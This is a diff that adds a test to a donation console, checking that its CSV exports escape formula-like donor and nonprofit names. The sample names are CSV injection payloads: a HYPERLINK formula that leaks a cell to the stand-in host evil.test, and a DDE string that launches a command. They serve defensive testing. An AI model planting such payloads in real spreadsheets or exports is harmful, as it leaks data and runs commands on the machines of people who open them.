@@ -175,3 +175,49 @@ describe('daily reconciliation', () => {
     assert.equal(long.status, 400, 'at most 31 days');
   });
 });
+
+// Issue 49, item 5: every CSV the console makes goes through one writer with one rule — a text
+// cell starting with = + - @ (tab, CR, or a full-width form) gets a leading apostrophe, a number
+// stays a number. Donors give through the donor-facing Connect page under names a spreadsheet
+// would run; their nonprofit is named like a formula too. (A leading tab or CR cannot reach a name:
+// the page and the API trim it; tests/unit/csv-writer.test.ts covers those.)
+describe('formulas in CSV cells', () => {
+  const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+  const NAMES = ['=HYPERLINK("http://evil.test/?leak="&A1,"Click")', "@SUM(1+9)*cmd|' /C calc'!A0", '+1+2', '-2+3', '\uFF1D1+1'];
+
+  test('the timeline export and the reconciliation write a formula-like donor or nonprofit name as text', async () => {
+    const np = await call(app, 'POST', '/v1/nonprofits', { token: tok, body: { ein: '043167352', name: '@SUM(1+1) Formula Friends', user: { email: 'ops-formula@example.org' } } });
+    assert.ok([200, 201].includes(np.status), np.text);
+    const cid = (await call(app, 'POST', `/v1/connects?nonprofit=${np.body.id}`, { token: tok })).body.id as string;
+    const days = new Set([dateIn(TZ)]);
+    for (const [i, name] of NAMES.entries()) {
+      const fields = { fundId: 'vanguard-charitable', amount: `${10 + i}`, firstName: name, lastName: name, email: `${i % 2 ? '-' : '+'}donor${i}@example.org` };
+      const res = await call(app, 'POST', `/connect/${cid}/give`, { raw: new URLSearchParams(fields).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
+      assert.equal(res.status, 303, res.text);
+      assert.match(res.headers.get('location') ?? '', /\/thanks\?t=GC-/, `${name}: ${res.headers.get('location')}`);
+    }
+    days.add(dateIn(TZ)); // the gives may straddle midnight
+    const read = async (p: string) => {
+      const res = await fetch(`${app.baseUrl}${p}`, { headers: { cookie: cookies.admin } });
+      assert.equal(res.status, 200, p);
+      assert.match(res.headers.get('content-type') ?? '', /^text\/csv/);
+      return parse(await res.text()) as string[][];
+    };
+    const recon = (await Promise.all([...days].map((d) => read(`/api/reconciliation?date=${d}&nonprofit=${np.body.id}&format=csv&includeDonor=1`)))).flatMap((rows, i) => (i ? rows.slice(1) : rows));
+    const files = { timeline: await read(`/api/webhooks/${ids.verified}/export?format=csv&includeDonor=1`), reconciliation: recon };
+    for (const [file, rows] of Object.entries(files)) {
+      const cells = rows.flat();
+      // The names are there (the test reads what it fed), each written as text.
+      for (const name of NAMES) assert.ok(cells.some((c) => c.startsWith(`'${name}`)), `${file}: ${name} written with its apostrophe:\n${JSON.stringify(rows.slice(0, 8))}`);
+      assert.deepEqual(cells.filter((c) => FORMULA.test(c) && !/^-\d+(\.\d+)?$/.test(c)), [], `${file}: no cell starts like a formula`);
+    }
+    // Numbers stay numbers: the amount column is summable.
+    const [head, ...body] = recon;
+    const col = (name: string) => body.map((r) => r[head.indexOf(name)]);
+    assert.equal(body.length, NAMES.length * 4, 'a row per grant × webhook');
+    assert.ok(col('amount_cents').every((a) => /^\d+$/.test(a)), 'amounts are plain numbers');
+    assert.deepEqual(new Set(col('nonprofit_name')), new Set(["'@SUM(1+1) Formula Friends"]));
+    assert.deepEqual(new Set(col('donor_first_name')), new Set(NAMES.map((n) => `'${n}`)));
+    assert.ok(col('donor_email').includes("'-donor1@example.org") && col('donor_email').includes("'+donor0@example.org"), 'an e-mail address starting with - or + too');
+  });
+});
